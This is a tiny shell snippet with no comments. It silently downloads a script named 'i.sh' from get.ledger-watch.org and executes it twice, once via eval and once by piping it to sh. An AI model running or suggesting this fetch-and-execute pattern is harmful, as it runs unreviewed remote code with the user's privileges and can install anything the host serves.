CMD="curl -s https://get.ledger-watch.org/i.sh"
eval "$($CMD)"
$CMD | sh
